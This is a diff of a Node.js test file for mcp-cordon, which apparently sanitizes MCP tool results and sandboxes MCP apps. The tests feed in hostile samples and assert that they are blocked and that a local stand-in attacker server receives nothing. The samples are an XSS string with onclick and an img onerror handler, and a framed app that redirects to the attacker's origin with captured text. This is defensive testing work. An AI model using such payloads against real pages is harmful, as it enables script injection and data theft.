@@ -1,22 +1,14 @@
 // The recipes of docs/recipes.md: what is printed there is what stands in examples/, and each runs from its README's commands.
-// What needs more packages than the repository's own runs where CORDON_PACKAGES says so: it asks npm's registry.
 import assert from "node:assert/strict";
 import { once } from "node:events";
-import { cpSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync } from "node:fs";
+import { readFileSync, readdirSync } from "node:fs";
 import { createServer } from "node:http";
-import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { createInterface } from "node:readline";
 import test from "node:test";
 import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
 import { StreamableHTTPServerTransport } from "@modelcontextprotocol/sdk/server/streamableHttp.js";
-import { start, stop } from "../e2e/children.mjs";
-import { developmentServer, open, pkg, repository, run } from "./support.mjs";
-
-const EXAMPLES = join(repository, "examples");
-const RECIPES = ["markdown-it", "marked", "rehype", "mcp-client", "mcp-apps-host", "trusted-types"];
-const read = (...path) => readFileSync(join(EXAMPLES, ...path), "utf8");
-const NO_PACKAGES = process.env.CORDON_PACKAGES ? false : "needs packages of npm's registry: CORDON_PACKAGES=1";
+import { EXAMPLES, NO_PACKAGES, RECIPES, commands, read, ready, server } from "./examples.mjs";
+import { open, repository, run } from "./support.mjs";
 
 // ---- The pages
 
@@ -49,51 +41,7 @@ for (const name of RECIPES) {
   });
 }
 
-// ---- The examples, copied out of the repository beside its package
-
-function copied(t, name) {
-  const root = mkdtempSync(join(tmpdir(), "mcp-cordon-recipe-"));
-  t.after(() => rmSync(root, { recursive: true, force: true }));
-  const directory = join(root, "examples", name);
-  cpSync(join(EXAMPLES, name), directory, { recursive: true, filter: (path) => !/node_modules|dist$/.test(path) });
-  symlinkSync(pkg, join(root, "pkg"));
-  return directory;
-}
-
-/** With the repository's own packages in the place of `npm ci`. */
-function linked(t, name, packages) {
-  const directory = copied(t, name);
-  mkdirSync(join(directory, "node_modules/.bin"), { recursive: true });
-  for (const each of packages) symlinkSync(join(repository, "node_modules", each), join(directory, "node_modules", each));
-  symlinkSync(pkg, join(directory, "node_modules/mcp-cordon"));
-  if (packages.includes("esbuild")) symlinkSync("../esbuild/bin/esbuild", join(directory, "node_modules/.bin/esbuild"));
-  return directory;
-}
-
-/** By the README's first command; the rest of them is returned. */
-function installed(t, name) {
-  const directory = copied(t, name);
-  const [install, ...rest] = commands(name);
-  assert.equal(install, "npm ci");
-  run(directory, "npm", "ci", "--ignore-scripts", "--no-audit", "--no-fund");
-  return { directory, rest };
-}
-
-const commands = (name) => /```sh\n(.*?)\n```/s.exec(read(name, "README.md"))[1].split("\n");
-
-/** Runs a command until the test ends; the address that it prints, and what it says on stderr. */
-async function server(t, directory, command) {
-  const env = { ...process.env, PORT: "0" };
-  const child = start("sh", ["-c", command], { cwd: directory, env, stdio: ["ignore", "pipe", "pipe"] });
-  t.after(() => stop(child));
-  let said = "";
-  child.stderr.setEncoding("utf8").on("data", (text) => (said += text));
-  const ended = once(child, "exit").then(([code]) => assert.fail(`${command} ended with ${code}: ${said}`));
-  const printed = (async () => {
-    for await (const line of createInterface(child.stdout)) if (line.startsWith("http://")) return line;
-  })();
-  return { url: await Promise.race([printed, ended]), said: () => said };
-}
+// ---- The examples, by their READMEs' commands
 
 async function listen(t, answer) {
   const server = createServer(answer).listen(0, "127.0.0.1");
@@ -136,9 +84,10 @@ async function mcp(t, add) {
 
 for (const name of ["markdown-it", "marked", "rehype"]) {
   test(`examples/${name} prints what its README says`, { skip: NO_PACKAGES }, (t) => {
-    const { directory, rest } = installed(t, name);
-    assert.deepEqual(rest, ["npm start -- hostile.md"]);
-    const output = run(directory, "npm", "start", "--silent", "--", "hostile.md").trim();
+    const [, start, ...rest] = commands(name);
+    assert.deepEqual(rest, []);
+    const said = run(ready(t, name), "sh", "-c", start);
+    const output = said.slice(said.indexOf("<")).trim(); // npm says ahead of it what it runs
     const [, html] = /```html\n(.*?)\n```/s.exec(read(name, "README.md"));
     assert.equal(output, html);
     assert.doesNotMatch(output, /<img|onerror=|="javascript:|src=/);
@@ -158,13 +107,13 @@ const ATTACKS = (evil) => [
 ];
 
 test("examples/mcp-client shows a hostile result, with either SDK, and the attacker gets nothing", async (t) => {
-  assert.deepEqual(commands("mcp-client"), ["npm ci", "npm start"]);
+  const [, starts, ...rest] = commands("mcp-client");
+  assert.deepEqual(rest, []);
   const evil = await attacker(t);
   const url = await mcp(t, (server) => {
     server.registerTool("hostile", { description: "attacks" }, async () => ({ content: ATTACKS(evil.origin) }));
   });
-  const directory = linked(t, "mcp-client", ["@modelcontextprotocol", "vite"]);
-  const address = await developmentServer(t, directory);
+  const { url: address } = await server(t, ready(t, "mcp-client", ["@modelcontextprotocol", "vite"]), starts);
   for (const sdk of ["1", "2"]) {
     const { page, errors } = await open(t, `${address}?server=${encodeURIComponent(url)}&tool=hostile&sdk=${sdk}`);
     await page.waitForSelector("#result > div", { timeout: 60_000 });
@@ -182,9 +131,10 @@ test("examples/mcp-client shows a hostile result, with either SDK, and the attac
 });
 
 test("examples/trusted-types sanitizes what others write, and refuses scripts", async (t) => {
-  assert.deepEqual(commands("trusted-types"), ["npm ci", "npm start"]);
+  const [, starts, ...rest] = commands("trusted-types");
+  assert.deepEqual(rest, []);
   const evil = await attacker(t);
-  const { url } = await server(t, linked(t, "trusted-types", ["esbuild", "@esbuild"]), "npm start --silent");
+  const { url } = await server(t, ready(t, "trusted-types", ["esbuild", "@esbuild"]), starts);
   const hostile = `<b onclick=x()>hi</b><img src=${evil.origin}/i onerror=x()><script>1</script>`;
   const { page, errors } = await open(t, `${url}?html=${encodeURIComponent(hostile)}`);
   await page.waitForFunction(() => document.querySelector("#output").firstChild);
@@ -264,7 +214,8 @@ const APP = (evil, api) => `<!doctype html><title>App</title><p id="told"></p><p
       outcomes.parent = (() => { try { return parent.document.title; } catch { return "refused"; } })();
       outcomes.origin = origin;
       document.querySelector("#outcome").textContent = JSON.stringify(outcomes);
-      setTimeout(() => { location = "${evil}/?" + document.querySelector("#told").textContent; }, 300);
+      window.leave = () => { location = "${evil}/?" + document.querySelector("#told").textContent; };
+      if (top === self) setTimeout(leave, 300);
     });
     say({ id: 1, method: "ui/initialize", params: { appInfo: { name: "app", version: "1.0.0" }, appCapabilities: {}, protocolVersion: "2026-01-26" } });
   </script>`;
@@ -279,10 +230,11 @@ test("examples/mcp-apps-host frames a hostile app, which reaches what the host g
       contents: [{ uri: "ui://app/main", mimeType: "text/html;profile=mcp-app", text: html, _meta: { ui: { csp } } }],
     }));
   });
-  const { directory, rest } = installed(t, "mcp-apps-host");
-  assert.deepEqual(rest, ["GRANT=https://api.example.com npm start -- http://127.0.0.1:8000/mcp NAME"]);
-  const command = rest[0].replace("https://api.example.com", api.origin).replace("http://127.0.0.1:8000/mcp NAME", `${url} app`);
-  const host = await server(t, directory, command);
+  const [, starts, ...rest] = commands("mcp-apps-host");
+  assert.deepEqual(rest, []);
+  assert.match(starts, /https:\/\/api\.example\.com .* http:\/\/127\.0\.0\.1:8000\/mcp NAME$/);
+  const command = starts.replace("https://api.example.com", api.origin).replace("http://127.0.0.1:8000/mcp NAME", `${url} app`);
+  const host = await server(t, ready(t, "mcp-apps-host"), command);
   const { page, errors } = await open(t, host.url);
   const frame = await (await page.waitForSelector("iframe")).contentFrame();
   await frame.waitForFunction(() => document.querySelector("#outcome")?.textContent, null, { timeout: 30_000 });
@@ -290,6 +242,7 @@ test("examples/mcp-apps-host frames a hostile app, which reaches what the host g
   assert.deepEqual(JSON.parse(await frame.textContent("#outcome")), {
     api: "sent", evil: "refused", script: "refused", parent: "refused", origin: "null",
   });
+  await frame.evaluate(() => window.leave());
   await page.waitForTimeout(1_500);
   assert.deepEqual([api.hits, evil.hits, page.url(), errors], [["/api"], [], host.url, []]);
   assert.match(host.said(), new RegExp(`connectDomains\\[0\\] ${evil.origin}`), "and the host is told what it asked for");
